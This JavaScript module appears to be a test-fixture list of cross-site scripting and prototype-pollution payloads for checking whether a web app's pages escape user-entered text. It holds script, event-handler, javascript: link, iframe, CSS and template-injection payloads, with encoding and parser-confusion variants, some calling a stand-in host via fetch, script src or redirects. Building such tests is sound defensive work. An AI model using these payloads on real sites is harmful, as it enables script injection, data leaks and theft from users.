/**
 * What somebody would write into a name, a note or a line so that it runs where it is shown. Each is a text with a
 * number in it: `__ran(number)` is a door to the test that watches, an outside address and a dialog tell the same.
 * `dev/unsafe.mjs` shows of each that it does run where a page is careless.
 */

/** A host that no page of ours has any business with. */
export const OUTSIDE = "https://outside.example";

/** The same script in other letters: entities, escapes, a detour through a decoder. */
const entities = (text) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join("");
const hexEntities = (text) => [...text].map((letter) => `&#x${letter.codePointAt(0).toString(16)}`).join(";") + ";";
const base64 = (text) => Buffer.from(text).toString("base64");
const percent = (text) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
const wide = (text) => text.replace(/[<>"'=]/g, (letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0));

const SCRIPTS = [
  (n) => `<script>__ran(${n})</script>`,
  (n) => `<SCRIPT>__ran(${n})</SCRIPT>`,
  (n) => `<script >__ran(${n})</script\t\n bar>`,
  (n) => `<script/x>__ran(${n})</script>`,
  (n) => `<script type=module>__ran(${n})</script>`,
  (n) => `<script src="${OUTSIDE}/${n}.js"></script>`,
  (n) => `<script src="data:text/javascript,__ran(${n})"></script>`,
  (n) => `<script>alert(${n})</script>`,
  (n) => `<script>confirm(${n})</script>`,
  (n) => `<script>prompt(${n})</script>`,
  (n) => `<script>window.open("about:blank#${n}")</script>`,
  (n) => `<script>location="${OUTSIDE}/${n}"</script>`,
  (n) => `<script>fetch("${OUTSIDE}/${n}")</script>`,
  (n) => `<script>setTimeout("__ran(${n})")</script>`,
  (n) => `<script>eval("__ran(${n})")</script>`,
  (n) => `<script>new Function("__ran(${n})")()</script>`,
  (n) => `<scr<script></script>ipt></script><script>__ran(${n})</script>`,
  (n) => `<svg><script>__ran(${n})</script></svg>`,
  (n) => `<svg><script href="data:text/javascript,__ran(${n})"/></svg>`,
  (n) => `<svg><script>__ran&#40;${n}&#41;</script></svg>`,
];

const HANDLERS = [
  (n) => `<img src=x onerror=__ran(${n})>`,
  (n) => `<img src=x onerror="__ran(${n})">`,
  (n) => `<img src=x onerror='__ran(${n})'>`,
  (n) => `<IMG SRC=x OnErRoR=__ran(${n})>`,
  (n) => `<img/src="x"/onerror=__ran(${n})>`,
  (n) => `<img src=x onerror=${entities(`__ran(${n})`)}>`,
  (n) => `<img src=x onerror=${hexEntities(`__ran(${n})`)}>`,
  (n) => `<img src=x onerror="\\u005f\\u005fran(${n})">`,
  (n) => `<img src=x onerror=window["__r"+"an"](${n})>`,
  (n) => `<img src=x onerror=\`\`;__ran(${n})>`,
  (n) => `<img src=x:x onerror\n=\n__ran(${n})>`,
  (n) => `<img src=x onerror=alert(${n})//`,
  (n) => `<img srcset=x onerror=__ran(${n})>`,
  (n) => `<svg onload=__ran(${n})>`,
  (n) => `<svg/onload=__ran(${n})>`,
  (n) => `<svg><image href=x onerror=__ran(${n})></svg>`,
  (n) => `<svg><animate onbegin=__ran(${n}) attributeName=x dur=1s></svg>`,
  (n) => `<svg><set onbegin=__ran(${n}) attributeName=x dur=1s></svg>`,
  (n) => `<body onload=__ran(${n})>`,
  (n) => `<body onpageshow=__ran(${n})>`,
  (n) => `<details open ontoggle=__ran(${n})><summary>x</summary>x</details>`,
  (n) => `<input autofocus onfocus=__ran(${n})>`,
  (n) => `<select autofocus onfocus=__ran(${n})></select>`,
  (n) => `<textarea autofocus onfocus=__ran(${n})></textarea>`,
  (n) => `<video src=x onerror=__ran(${n})></video>`,
  (n) => `<video><source onerror=__ran(${n})></video>`,
  (n) => `<audio src=x onerror=__ran(${n})></audio>`,
  (n) => `<object data=x: onerror=__ran(${n})></object>`,
  (n) => `<style>@keyframes k{}</style><b style="animation-name:k;animation-duration:1ms" onanimationstart=__ran(${n})>x</b>`,
  (n) => `<button onclick=__ran(${n})>x</button>`,
  (n) => `<b onmouseover=__ran(${n})>x</b>`,
  (n) => `<b onmouseenter=__ran(${n})>x</b>`,
  (n) => `<b onpointerenter=__ran(${n})>x</b>`,
  (n) => `<b contenteditable onfocus=__ran(${n})>x</b>`,
  (n) => `<xss tabindex=1 onfocus=__ran(${n})>x</xss>`,
  (n) => `<link rel=stylesheet href=x: onerror=__ran(${n})>`,
];

const LINKS = [
  (n) => `javascript:__ran(${n})`,
  (n) => `JaVaScRiPt:__ran(${n})`,
  (n) => `java\tscript:__ran(${n})`,
  (n) => `java\nscript:__ran(${n})`,
  (n) => ` \u0001javascript:__ran(${n})`,
  (n) => `javascript://x%0a__ran(${n})`,
  (n) => `javascript:${percent(`__ran(${n})`)}`,
  (n) => `javascript:alert(${n})`,
  (n) => `data:text/html,<script>__ran(${n})</script>`,
  (n) => `data:text/html;base64,${base64(`<script>__ran(${n})</script>`)}`,
  (n) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__ran(${n})"/>`,
  (n) => `${OUTSIDE}/${n}"><script>__ran(${n})</script>`,
  (n) => `//outside.example/${n}`,
  (n) => `<a href=javascript:__ran(${n})>x</a>`,
  (n) => `<a href="java&#x09;script:__ran(${n})">x</a>`,
  (n) => `<a href=&#106;avascript&colon;__ran&lpar;${n}&rpar;>x</a>`,
  (n) => `<svg><a href="javascript:__ran(${n})"><text y=9>x</text></a></svg>`,
  (n) => `<math><a href="javascript:__ran(${n})">x</a></math>`,
  (n) => `<a href=x target=_blank onclick=__ran(${n})>x</a>`,
  (n) => `[x](javascript:__ran(${n}))<a href='javascript:__ran(${n})'>x</a>`,
  (n) => `<form action=javascript:__ran(${n})><button>x</button></form>`,
  (n) => `<form><button formaction=javascript:__ran(${n})>x</button></form>`,
  (n) => `<form><input type=submit value=x formaction="javascript:__ran(${n})"></form>`,
  (n) => `<form action="${OUTSIDE}/${n}"><button>x</button></form>`,
  (n) => `<map name=m><area href=javascript:__ran(${n}) shape=default></map>`,
];

const FRAMES = [
  (n) => `<iframe src=javascript:__ran(${n})></iframe>`,
  (n) => `<iframe src="data:text/html,<script>__ran(${n})</script>"></iframe>`,
  (n) => `<iframe srcdoc="<script>__ran(${n})</script>"></iframe>`,
  (n) => `<iframe srcdoc="&lt;img src=x onerror=__ran(${n})&gt;"></iframe>`,
  (n) => `<iframe onload=__ran(${n})></iframe>`,
  (n) => `<iframe src="${OUTSIDE}/${n}"></iframe>`,
  (n) => `<object data="data:text/html,<script>__ran(${n})</script>"></object>`,
  (n) => `<embed src="data:text/html,<script>__ran(${n})</script>">`,
  (n) => `<embed src="${OUTSIDE}/${n}">`,
  (n) => `<meta http-equiv=refresh content="0;url=${OUTSIDE}/${n}">`,
  (n) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>__ran(${n})</script>">`,
  (n) => `<base href="${OUTSIDE}/${n}/"><img src=x>`,
];

const STYLES = [
  (n) => `<style>@import "${OUTSIDE}/${n}.css";</style>`,
  (n) => `<style>*{background:url(${OUTSIDE}/${n})}</style>`,
  (n) => `<b style="background:url(${OUTSIDE}/${n})">x</b>`,
  (n) => `<link rel=stylesheet href="${OUTSIDE}/${n}.css">`,
  (n) => `red;background:url(${OUTSIDE}/${n})`,
  (n) => `x}*{background:url(${OUTSIDE}/${n})}`,
  (n) => `</style><script>__ran(${n})</script>`,
  (n) => `<img src="${OUTSIDE}/${n}.png">`,
  (n) => `<body background="${OUTSIDE}/${n}">`,
  (n) => `<svg><image href="${OUTSIDE}/${n}.png"/></svg>`,
];

const BREAKS = [
  (n) => `"><script>__ran(${n})</script>`,
  (n) => `'><script>__ran(${n})</script>`,
  (n) => `"><img src=x onerror=__ran(${n})>`,
  (n) => `" onmouseover="__ran(${n})`,
  (n) => `' onmouseover='__ran(${n})`,
  (n) => `x onmouseover=__ran(${n})`,
  (n) => `" autofocus tabindex=1 onfocus="__ran(${n})" x="`,
  (n) => `";__ran(${n});//`,
  (n) => `';__ran(${n});//`,
  (n) => `\\";__ran(${n});//`,
  (n) => `\`;__ran(${n});//`,
  (n) => `</script><script>__ran(${n})</script>`,
  (n) => `</title><script>__ran(${n})</script>`,
  (n) => `</textarea><script>__ran(${n})</script>`,
  (n) => `--><script>__ran(${n})</script>`,
  (n) => `]]><script>__ran(${n})</script>`,
  (n) => `</option></select><img src=x onerror=__ran(${n})>`,
];

const TEMPLATES = [
  (n) => `{{constructor.constructor('__ran(${n})')()}}`,
  (n) => `{{__ran(${n})}}`,
  (n) => `\${__ran(${n})}`,
  (n) => `\${constructor.constructor("__ran(${n})")()}`,
  (n) => `{@html "<img src=x onerror=__ran(${n})>"}`,
  (n) => `{__ran(${n})}`,
  (n) => `<%= __ran(${n}) %>`,
  (n) => `#{__ran(${n})}`,
];

const TRICKS = [
  // Places where a parser changes its mind: foreign content, raw text, shadows.
  (n) => `<math><annotation-xml encoding="text/html"><img src=x onerror=__ran(${n})></annotation-xml></math>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=__ran(${n})>">`,
  (n) => `<svg><style><img src=x onerror=__ran(${n})></style></svg>`,
  (n) => `<svg></p><style><a id="</style><img src=1 onerror=__ran(${n})>">`,
  (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=__ran(${n})>`,
  (n) => `<template><b></b></template><img src=x onerror=__ran(${n})>`,
  (n) => `<div><template shadowrootmode=open><img src=x onerror=__ran(${n})></template></div>`,
  // Letters: NUL, direction marks, a byte-order mark, what decoders and normalisers make of others.
  (n) => `\u0000<img src=x onerror=__ran(${n})>`,
  (n) => `<img\u0000 src=x onerror=__ran(${n})><img src=x onerror=__ran(${n})>`,
  (n) => `\u202e<img src=x onerror=__ran(${n})>\u202c`,
  (n) => `\ufeff<img src=x onerror=__ran(${n})>`,
  (n) => `\ud800<img src=x onerror=__ran(${n})>`,
  (n) => wide(`<img src=x onerror=__ran(${n})>`),
  (n) => `&lt;img src=x onerror=__ran(${n})&gt;`,
  (n) => `&amp;lt;img src=x onerror=__ran(${n})&amp;gt;`,
  (n) => percent(`<img src=x onerror=__ran(${n})>`),
  (n) => `\\u003cimg src=x onerror=__ran(${n})\\u003e`,
  (n) => `\\x3cimg src=x onerror=__ran(${n})\\x3e`,
  // Prototypes: text that poisons who merges it or follows it as a path.
  (n) => `{"__proto__":{"polluted":${n}}}`,
  (n) => `{"constructor":{"prototype":{"polluted":${n}}}}`,
  (n) => `__proto__.polluted=${n}`,
  (n) => `constructor.prototype.polluted=${n}`,
];

/** Words that are no script, and break who uses a text as a name of a property. */
const WORDS = ["__proto__", "constructor", "toString", "hasOwnProperty"].map((word) => () => word);

/** Every payload that runs somewhere. */
export const PAYLOADS = [...SCRIPTS, ...HANDLERS, ...LINKS, ...FRAMES, ...STYLES, ...BREAKS, ...TEMPLATES, ...TRICKS];

/** All that is put into the fields: the payloads, and the words. */
export const TEXTS = [...PAYLOADS, ...WORDS];
